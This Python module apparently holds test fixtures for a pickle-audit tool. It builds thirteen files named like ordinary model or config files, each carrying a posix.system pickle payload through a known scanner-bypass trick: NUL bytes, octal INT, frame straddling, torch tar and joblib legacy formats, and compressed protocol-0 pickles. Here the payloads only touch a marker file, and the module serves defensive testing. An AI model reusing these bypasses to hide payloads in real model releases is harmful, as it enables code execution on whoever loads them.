"""Issue 11's bypass classes as files built in code (payloads only touch a marker file).

Each was a file that, added to the bundled example release, carried a payload past the audit;
`tests/test_pickle_bypasses.py` proves each live under its loader and an error in `check`.
"""

from __future__ import annotations

import bz2
import dataclasses
import gzip
import io
import lzma
import tarfile
import zlib
from collections.abc import Callable
from pathlib import Path

from .ops import call, glob, program


def _proto0(marker: Path) -> bytes:
    """A protocol 0 payload: posix.system('touch MARKER')."""
    return f"cposix\nsystem\n(V{'touch ' + str(marker)}\ntR.".encode()


def _proto2(marker: Path) -> bytes:
    return program(call(glob("posix", "system"), f"touch {marker}"))


@dataclasses.dataclass(frozen=True)
class Bypass:
    id: str
    klass: str  # the class
    name: str  # the file's name in the release
    build: Callable[[Path], bytes]
    loader: str  # pickle | torch | numpy | joblib | pickle-xz


def _tar(marker: Path) -> bytes:
    """torch's pre-0.4 checkpoint: a tar of storages, tensors and pickle (the payload is in pickle)."""
    import pickle

    members = {"storages": pickle.dumps(0, protocol=2) + pickle.dumps([], protocol=2),
               "tensors": pickle.dumps(0, protocol=2), "pickle": _proto2(marker)}
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return out.getvalue()


def _zfile(marker: Path) -> bytes:
    """joblib < 0.10's zfile: "ZF", the hex length padded to 19 characters, then zlib."""
    data = _proto2(marker)
    return b"ZF" + f"{len(data):#x}".ljust(19).encode() + zlib.compress(data)


def _lzma_alone(marker: Path) -> bytes:
    """lzma-alone with a 4 KiB dictionary: its header is 5d 00 10 00 00 (joblib checks only 5d 00)."""
    data = lzma.compress(_proto2(marker), format=lzma.FORMAT_ALONE,
                         filters=[{"id": lzma.FILTER_LZMA1, "dict_size": 4096}])
    assert data[:3] == b"\x5d\x00\x10"
    return data


def _frame_straddle(marker: Path) -> bytes:
    """A FRAME of 2 bytes that cuts INT's argument: the C unpickler reading a file reads on."""
    return b"\x80\x04\x95\x02\x00\x00\x00\x00\x00\x00\x00I1\n0" + _proto0(marker)


BYPASSES = [
    Bypass("int-nul", "1: text argument with a NUL (C stops at it)", "NOTES.txt",
           lambda m: b"I1\x00junk\n0" + _proto0(m), "pickle"),
    Bypass("int-octal", "1: INT in octal (strtol base 0)", "config.yaml", lambda m: b"I010\n0" + _proto0(m), "pickle"),
    Bypass("get-nul", "1: memo index with a NUL", "vocab.txt",
           lambda m: b"I5\np0\x00\n0g0\x00\n0" + _proto0(m), "pickle"),
    Bypass("float-nul", "1: FLOAT with a NUL", "merges.txt", lambda m: b"F1.5\x00x\n0" + _proto0(m), "pickle"),
    Bypass("bin-name", "1: .bin is a checkpoint name, payload then garbage", "pytorch_model.bin",
           lambda m: _proto2(m)[:-1] + b"\xff", "torch"),
    Bypass("frame-straddle", "1: opcode straddling a frame, file not named like a pickle", "data.txt",
           _frame_straddle, "pickle"),
    Bypass("torch-tar", "2: torch's pre-0.4 tar checkpoint", "checkpoint.tar", _tar, "torch"),
    Bypass("joblib-zfile", "2: joblib's old ZF zfile format", "model.dat", _zfile, "joblib"),
    Bypass("lzma-alone-dict", "2: lzma-alone whose dictionary size changes the third byte", "model.lzma",
           _lzma_alone, "joblib"),
    Bypass("gzip-proto0", "2: protocol 0 pickle inside gzip", "weights.gz", lambda m: gzip.compress(_proto0(m)),
           "joblib"),
    Bypass("zlib-proto0", "2: protocol 0 pickle inside zlib", "weights.z", lambda m: zlib.compress(_proto0(m)),
           "joblib"),
    Bypass("bz2-proto0", "2: protocol 0 pickle inside bz2", "weights.bz2", lambda m: bz2.compress(_proto0(m)),
           "joblib"),
    Bypass("xz-proto0", "2: protocol 0 pickle inside xz", "weights.xz", lambda m: lzma.compress(_proto0(m)),
           "joblib"),
]

